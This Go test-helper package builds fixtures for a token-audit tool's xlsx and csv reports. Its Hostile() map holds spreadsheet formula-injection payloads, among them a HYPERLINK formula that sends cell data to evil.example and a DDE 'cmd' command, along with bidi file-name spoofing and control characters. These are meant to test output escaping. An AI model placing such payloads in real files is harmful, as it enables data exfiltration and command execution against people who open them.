// Package reporttest has reviews to report on, and reads back what a format made of
// them.
package reporttest

import (
	"archive/zip"
	"context"
	"encoding/csv"
	"errors"
	"fmt"
	"io"
	"iter"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	excelize "github.com/xuri/excelize/v2"

	"tokenaudit/jobs/audit"
	"tokenaudit/report/table"
)

// CSV is a CSV file by its column names.
type CSV struct {
	Header []string
	Rows   []map[string]string
}

func ReadCSV(t testing.TB, text string) CSV {
	t.Helper()
	lines, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	s := CSV{Header: lines[0]}
	for _, line := range lines[1:] {
		row := map[string]string{}
		for i, name := range s.Header {
			row[name] = line[i]
		}
		s.Rows = append(s.Rows, row)
	}
	return s
}

func (s CSV) Column(name string) []string {
	var out []string
	for _, r := range s.Rows {
		out = append(out, r[name])
	}
	return out
}

func Stamp(t time.Time) string {
	if t.IsZero() {
		return ""
	}
	return t.UTC().Format(time.RFC3339)
}

var (
	LastWeek = time.Date(2026, 11, 16, 8, 0, 0, 0, time.UTC)
	ThisWeek = LastWeek.AddDate(0, 0, 7)
	Began    = ThisWeek.Add(3 * time.Second) // the time of the review
)

// Hostile descriptions, by what is wrong with them.
func Hostile() map[string]string {
	return map[string]string{
		"link":       `=HYPERLINK("http://evil.example/?"&A1,"open")`,
		"dde":        `=cmd|' /C calc'!A0`,
		"plus":       "+1+1",
		"minus":      "-1",
		"at":         "@SUM(A1)",
		"tab":        "\t=1+1",
		"space":      "  =1+1",
		"newline":    "\n=1+1",
		"return":     "\r=1+1",
		"lines":      "first, \"quoted\"\nsecond\r\nthird",
		"bidi":       "safe\u202egnp.exe",
		"zero":       "a\u200bb\x00c\x1bd",
		"escape":     "_x0041_",
		"overlap":    "_x0041_x0042_ _xD83D_ _x005F_x0041_",
		"markup":     "<b>&amp;]]></b>",
		"apostrophe": "'quoted'",
		"digits":     "0123456789",
		"emoji":      "🔑 clé 鍵",
		"padded":     " padded ",
		"long":       strings.Repeat("0123456789", 30_000),
		"empty":      "",
	}
}

func Describe(name string) string { return Hostile()[name] }

func names() []string {
	var ns []string
	for n := range Hostile() {
		ns = append(ns, n)
	}
	slices.Sort(ns)
	return ns
}

func WritePermission(bucket string) audit.Permission {
	return audit.Permission{Action: "write", Resource: audit.Resource{Type: "buckets", ID: bucket, Name: "sensors", OrgID: "00000000000000aa", Org: "acme"}}
}

func Authorization(n int, description string) audit.Authorization {
	created := ThisWeek.AddDate(0, -n, 0).Add(time.Duration(n*1017) * time.Second)
	return audit.Authorization{
		ID: fmt.Sprintf("%016x", 0xa000+n), OrgID: "00000000000000aa", Org: "acme",
		UserID: fmt.Sprintf("%016x", 0xb0+n%4), User: fmt.Sprintf("user-%d", n%4),
		Description: description, Status: []audit.Status{audit.Active, audit.Active, audit.Inactive}[n%3],
		Permissions: []audit.Permission{{Action: "read", Resource: audit.Resource{Type: "buckets", ID: "00000000000000c1", Name: "sensors"}}, WritePermission("00000000000000c1")},
		CreatedAt:   created, UpdatedAt: created.Add(time.Hour),
	}
}

// population: a target whose authorizations have hostile descriptions, and one
// with an operator token, a nameless one, and some that the list lacks now.
func Population() map[string][]audit.Authorization {
	var plant []audit.Authorization
	for i, name := range names() {
		plant = append(plant, Authorization(i, Describe(name)))
	}
	office := []audit.Authorization{Authorization(40, "operator"), Authorization(41, ""), Authorization(42, "set aside"), Authorization(43, "deleted since"), Authorization(44, "hidden"), Authorization(45, "cannot be asked"), Authorization(46, "new here"), Authorization(47, "repaired"), Authorization(48, "of a deleted user")}
	office[0].Permissions = []audit.Permission{{Action: "write", Resource: audit.Resource{Type: "buckets"}}}
	office[1].Org, office[1].User, office[1].CreatedAt, office[1].UpdatedAt = "", "", time.Time{}, time.Time{}
	office[8].UserID = "00000000000000dd"
	return map[string][]audit.Authorization{"plant": plant, "office": office}
}

// review gives the records of this week and their summary, made by the audit
// itself from last week's.
func review(t testing.TB) ([]audit.Record, audit.Summary) {
	var all []audit.Record
	var items []audit.Item
	for _, target := range []string{"plant", "office"} {
		now := Population()[target]
		before := merge(t, target, LastWeek, now, nil)
		if target == "office" {
			now = thisOffice(now)
			before = slices.DeleteFunc(before, func(r audit.Record) bool { return r.Description == "new here" })
		}
		records := merge(t, target, Began, now, before)
		all, items = append(all, records...), append(items, item(target, records))
	}
	run := audit.Run{Job: "weekly-review", Slot: ThisWeek, Trigger: audit.Scheduled, Missed: 1, Started: Began}
	tool := audit.Tool{Name: "tokenaudit", Version: "1.0.0", Build: "abc123 go1.26"}
	previous := &audit.Previous{ID: "weekly-review/2026-11-16T0800Z", Slot: LastWeek, BySeverity: map[audit.Severity]int{audit.Critical: 3, audit.Medium: 40, audit.Low: 4}}
	return all, audit.Summarize(run, items, ThisWeek.Add(time.Minute), tool, audit.Policy{}, previous)
}

// thisOffice lacks three authorizations of last week, and one may no longer write.
func thisOffice(as []audit.Authorization) []audit.Authorization {
	as = slices.DeleteFunc(slices.Clone(as), func(a audit.Authorization) bool {
		return a.Description == "deleted since" || a.Description == "hidden" || a.Description == "cannot be asked"
	})
	for i := range as {
		if as[i].Description == "repaired" {
			as[i].Status = audit.Inactive
		}
	}
	return as
}

func merge(t testing.TB, target string, at time.Time, now []audit.Authorization, before []audit.Record) []audit.Record {
	rv := audit.Review{
		Target: target, Now: at, Policy: audit.Policy{RotateAfter: 365 * 24 * time.Hour, InactiveAfter: 90 * 24 * time.Hour},
		Collection: audit.Collection{Authorizations: Values(now), Owner: owner, Probe: probe},
	}
	var out []audit.Record
	for r, err := range rv.Merge(t.Context(), t.Context(), Values(before)) {
		if err != nil {
			t.Fatal(err)
		}
		out = append(out, r)
	}
	return out
}

func owner(_ context.Context, a audit.Authorization) audit.Owner {
	o := audit.Owner{ID: a.UserID, Name: a.User, State: audit.OwnerPresent, MembershipKnown: true, Evidence: "listed by GET /api/v2/users"}
	switch {
	case a.Product != "" && a.Product != audit.ProductV1:
		return audit.Owner{State: audit.OwnerNone}
	case a.UserID == "00000000000000dd":
		o.State, o.Evidence = audit.OwnerDeleted, "GET /api/v2/users/00000000000000dd: 404 user not found"
	}
	return o
}

func probe(_ context.Context, a audit.Authorization) audit.Probe {
	switch a.ID {
	case Authorization(43, "").ID:
		return audit.Probe{Presence: audit.Gone, Evidence: "GET /api/v2/authorizations/" + a.ID + ": 404 authorization not found"}
	case Authorization(44, "").ID:
		return audit.Probe{Presence: audit.Hidden, Evidence: "GET /api/v2/authorizations/" + a.ID + ": 404 user not found", Owner: &audit.Owner{ID: "00000000000000b0", State: audit.OwnerDeleted, Evidence: "GET by ID: user not found"}}
	}
	return audit.Probe{Presence: audit.Unseen}
}

func item(target string, records []audit.Record) audit.Item {
	cov, counts := audit.NewCoverage(target), audit.NewCounts()
	cov.Server = "InfluxDB 2.7.12"
	for _, r := range records {
		cov.Count(r)
		counts.Add(r, Began)
	}
	cov.Asked = []audit.Asked{
		{What: "authorizations of org acme", Request: "GET /api/v2/authorizations?orgID=00000000000000aa", Status: 200, Rows: len(records), Verdict: audit.Complete},
		{What: "user user-1", Request: "GET /api/v2/users?name=user-1", Status: 401, Verdict: audit.NotKnown, Reason: "unauthorized: the credential may not read users"},
		{What: "members of org acme", Request: "GET /api/v2/orgs/00000000000000aa/members", Verdict: audit.NotKnown, Reason: "no answer within 30s"},
	}
	return audit.Item{Coverage: cov, Counts: counts}
}

func Values[T any](vs []T) iter.Seq2[T, error] {
	return func(yield func(T, error) bool) {
		for _, v := range vs {
			if !yield(v, nil) {
				return
			}
		}
	}
}

func Input(t testing.TB) table.Input {
	records, summary := review(t)
	return table.Input{
		Summary: summary, Rows: Values(records),
		Formats: []string{"xlsx", "csv"}, Trend: weeksBefore(), Controls: someControls(), Config: "jobs:\n  - name: weekly-review\n    schedule: \"0 8 * * 1\"\n=1+1: not a formula\n",
	}
}

// weeksBefore: three weeks, in one of which not everything was seen.
func weeksBefore() []audit.TrendPoint {
	point := func(weeks int, v audit.Verdict, critical, medium, low int) audit.TrendPoint {
		run := audit.Run{Job: "weekly-review", Slot: ThisWeek.AddDate(0, 0, -7*weeks)}
		by := map[audit.Severity]int{audit.Critical: critical, audit.High: 0, audit.Medium: medium, audit.Low: low}
		return audit.TrendPoint{Run: run.ID(), Slot: run.Slot, Verdict: v, Authorizations: 30, BySeverity: by}
	}
	return []audit.TrendPoint{point(3, audit.Complete, 5, 44, 2), point(2, audit.Partial, 4, 41, 6), point(1, audit.Complete, 3, 40, 4)}
}

func someControls() audit.Controls {
	return audit.Controls{
		"active-write": {
			{Framework: "PCI DSS", Version: "4.0.1", ID: "7.2.5.1", Title: "Access of application and system accounts is reviewed", Strength: "direct", Source: "PCI SSC document library"},
			{Framework: "NIST 800-53", Version: "r5", ID: "AC-6(7)", Title: "Privileges are reviewed", Strength: "direct", Source: "csrc.nist.gov"},
		},
		"deleted-owner": {{Framework: "NIST 800-53", Version: "r5", ID: "AC-2", Title: "=1+1 accounts", Strength: "supporting", Source: "csrc.nist.gov"}},
	}
}

// Nothing is the input of a review without targets.
func Nothing() table.Input {
	run := audit.Run{Job: "empty", Slot: ThisWeek, Trigger: audit.Manual, Started: ThisWeek}
	return table.Input{
		Summary: audit.Summarize(run, nil, ThisWeek, audit.Tool{Name: "tokenaudit"}, audit.Policy{}, nil),
		Rows:    Values[audit.Record](nil),
	}
}

var ErrBroken = errors.New("snapshot is broken")

// Broken breaks off after some records.
func Broken(in table.Input, after int) table.Input {
	rows := in.Rows
	in.Rows = func(yield func(audit.Record, error) bool) {
		n := 0
		for r := range rows {
			if n++; n > after || !yield(r, nil) {
				break
			}
		}
		yield(audit.Record{}, ErrBroken)
	}
	return in
}

// Format is a format as the report uses it.
type Format interface {
	Add(*table.Row) error
	Finish(context.Context, *audit.Highlights) ([]table.Shown, error)
	Close() error
}

// Files are those that a format writes, and what it says that they show.
func Files[F Format](t testing.TB, in table.Input, begin func(*table.Staging, table.Input) (F, error)) (files map[string]string, shown []table.Shown) {
	t.Helper()
	s, err := table.NewStaging(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	f, err := begin(s, in)
	if err != nil {
		t.Fatal(err)
	}
	highlights := audit.NewHighlightsBuilder(in.Summary, in.Contacts)
	for r, err := range table.NewRowMaker(in).Rows(t.Context(), in.Rows) {
		if err == nil {
			highlights.Add(&r.Record)
			err = f.Add(r)
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	h := highlights.Highlights()
	shown, err = f.Finish(t.Context(), &h)
	if err := errors.Join(err, f.Close()); err != nil {
		t.Fatal(err)
	}
	return Contents(t, s.Path), shown
}

// Need skips a test whose program is missing; the machines of CI have them all.
func Need(t *testing.T, what string, err error) {
	t.Helper()
	switch {
	case err == nil:
	case os.Getenv("CI") == "true":
		t.Fatalf("%s is missing: %v", what, err)
	default:
		t.Skipf("%s is missing", what)
	}
}

const Later = "later-check" // of a later version of the program

// EveryState has, beside the fixture, what no list of authorizations has.
func EveryState(t testing.TB) table.Input {
	in := Input(t)
	in.Controls = audit.Controls{"active-write": {
		{Framework: "CIS Controls", Version: "8.1", ID: "5.5", Strength: "direct"},
		{Framework: "CIS Controls", Version: "8.1", ID: "3.3", Strength: "supporting"},
		{Framework: "CIS Controls", Version: "8.1", ID: "6.8", Strength: "supporting"},
	}}
	in.Summary.Policy.ServiceUsers = []string{"user-1"}
	server := audit.Record{Target: "plant", Authorization: audit.Server("values are shown"), Presence: audit.Listed}
	server.Findings = []audit.Finding{{Check: "token-value-readable", Severity: audit.High, State: audit.New, Since: Began}}
	server.Findings = append(server.Findings, audit.Finding{Check: "operator", Severity: audit.Critical, State: audit.Excepted, Since: LastWeek, Approval: &audit.Approval{
		Reason: "bidi\u202e", Requested: "ann", ApprovedBy: "bob", Ticket: "SEC-1", Expires: ThisWeek,
	}})
	odd := audit.Record{Target: "plant", Authorization: audit.Authorization{ID: "00000000000000e1", Legacy: true, Status: "dormant"}, Presence: audit.Hidden}
	odd.Findings = []audit.Finding{
		{Check: Later, Severity: "dire", State: "excused", Since: Began},
		{Check: "no-description", Severity: audit.Low, State: audit.Reopened, Since: Began},
		{Check: "active-write", Severity: audit.Medium, State: audit.Resolved, Since: LastWeek},
	}
	wide := audit.Record{Target: "plant", Authorization: Authorization(1, "wide"), Presence: audit.Listed, Findings: odd.Findings[1:2]}
	wide.ID, wide.Permissions = "00000000000000e2", slices.Repeat(wide.Permissions, 600)
	return With(in, server, odd, wide)
}

// With adds records at the end.
func With(in table.Input, more ...audit.Record) table.Input {
	var all []audit.Record
	for r := range in.Rows {
		all = append(all, r)
	}
	all = append(all, more...)
	in.Rows = Values(all)
	return in
}

// Contents of every file below dir, hidden ones included.
func Contents(t testing.TB, dir string) map[string]string {
	files := map[string]string{}
	err := filepath.WalkDir(dir, func(path string, d os.DirEntry, err error) error {
		if err != nil || path == dir {
			return err
		}
		rel, _ := filepath.Rel(dir, path)
		files[rel] = ""
		if d.IsDir() {
			return nil
		}
		b, err := os.ReadFile(path)
		files[rel] = string(b)
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	return files
}

func OpenWorkbook(t testing.TB, text string) *excelize.File {
	t.Helper()
	f, err := excelize.OpenReader(strings.NewReader(text))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { f.Close() })
	return f
}

// AllRows are those of the population, and those of the findings, worst first.
func AllRows(t testing.TB, in table.Input) (authorizations, found []*table.Row) {
	for r, err := range table.NewRowMaker(in).Rows(t.Context(), in.Rows) {
		if err != nil {
			t.Fatal(err)
		}
		c := *r
		c.Access = audit.AccessOf(r.Authorization)
		if !c.IsServer() {
			authorizations = append(authorizations, &c)
		}
		for _, f := range c.Findings {
			if f.Reported(c.Now) {
				found = append(found, c.Of(f))
			}
		}
	}
	slices.SortStableFunc(found, func(a, b *table.Row) int {
		return table.CompareGroups(table.GroupOf(a.Finding), table.GroupOf(b.Finding))
	})
	return authorizations, found
}

func Parts(t testing.TB, text string) map[string]string {
	r, err := zip.NewReader(strings.NewReader(text), int64(len(text)))
	if err != nil {
		t.Fatal(err)
	}
	out := map[string]string{}
	for _, f := range r.File {
		rc, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		b, err := io.ReadAll(rc) // checks the CRC too
		if err != nil {
			t.Fatal(f.Name, err)
		}
		out[f.Name] = string(b)
	}
	return out
}

// WithGaps has premises that hold, that do not, that are not needed, and gaps that were
// accepted, that expired, and that nobody needs.
func WithGaps(t testing.TB) table.Input {
	in := Input(t)
	accepted := audit.AcceptedGap{
		Target: "plant", Gap: audit.InstanceSeen, Reason: "=the other org belongs to another team", RequestedBy: "alice", ApprovedBy: "bob", Ticket: "SEC-1240",
		Expires: time.Date(2027, 4, 1, 0, 0, 0, 0, time.UTC),
	}
	unused, expired, dropped := accepted, accepted, accepted
	unused.Gap = audit.LegacyListed
	expired.Target, expired.Gap, expired.Expires = "office", audit.EarlierSeen, Began
	dropped.Target, dropped.Gap = "lab", audit.TargetsConfigured
	all := []audit.AcceptedGap{accepted, unused, expired, dropped}
	c := &in.Summary.Coverage
	plant := &c.Targets[0]
	plant.Sources = []string{"server/00000000000000aa"}
	plant.Credentials = []audit.Credential{{Of: "the target", Accepted: true}, {Of: "user user-1", Answer: "401 unauthorized"}}
	plant.Hold(audit.CredentialActive, "GET /api/v2/authorizations: 200")
	plant.Hold(audit.ListWhole, "GET /api/v2/authorizations: 21 rows, to the proper end")
	plant.Hold(audit.StoredListed, "21 stored, 21 listed")
	plant.NoNeed(audit.OwnCredentialShown, "InfluxDB OSS lists the tokens of all users")
	plant.Gap(audit.InstanceSeen, audit.Partial, "the instance has 2 orgs, and the tokens of the other one were not looked at")
	c.Gap(audit.TargetsConfigured+"/lab", audit.Partial, "lab: no longer among the targets of this job")
	for i := range c.Targets {
		c.Targets[i].Accept(all, Began)
	}
	c.Accept(all, Began)
	return in
}

// Retired has a source that was retired since the review before.
func Retired(t testing.TB) table.Input {
	in := Input(t)
	in.Summary.Coverage.Targets[0].Retired = []audit.RetiredSource{{Source: "server/aaaa", Reason: "=taken down <b>", At: LastWeek, Tokens: 3}}
	return in
}

// PolicyChanged has findings that only a change of the policy brought and took away, and
// an authorization that was touched.
func PolicyChanged(t testing.TB) table.Input {
	in := Input(t)
	in.Summary.PolicyChanges = []string{"check no-description switched off (was low)", "=service user user-1 added", "severity of operator: high -> critical", "target lab dropped", "check all-access switched on (high)"}
	r := audit.Record{Target: "plant", Authorization: Authorization(2, "touched"), Presence: audit.Listed, FirstSeen: LastWeek, LastSeen: Began}
	r.ID = "00000000000000f1"
	r.NeededAction = true // under the policy of now
	r.Changes = []audit.Change{{Field: audit.Touched, From: "2026-11-10T08:00:00Z", To: "2026-11-20T08:00:00Z"}}
	r.Findings = []audit.Finding{
		{Check: "all-access", Severity: audit.High, State: audit.ByPolicy, Since: Began},
		{Check: "no-description", Severity: audit.Low, State: audit.NotJudged, Since: Began},
		{Check: "personal-write", Severity: audit.Medium, State: audit.NotJudged, Since: LastWeek},
	}
	s := &in.Summary
	s.Authorizations.Total, s.Authorizations.Inactive, s.Authorizations.Flagged, s.Authorizations.Touched = s.Authorizations.Total+1, s.Authorizations.Inactive+1, s.Authorizations.Flagged+1, 1
	s.Findings.Total++
	s.Findings.ByCheck["all-access"]++
	s.Findings.BySeverity[audit.High]++
	s.Findings.ByState[audit.ByPolicy], s.Findings.ByState[audit.NotJudged] = 1, 1
	s.NeedsAction.Tokens++
	s.NeedsAction.BySeverity[audit.High]++
	s.NeedsAction.ByCheck["all-access"] = audit.CheckAction{Tokens: 1, Oldest: Began}
	s.Coverage.Targets[0].Listed++
	return With(in, r)
}
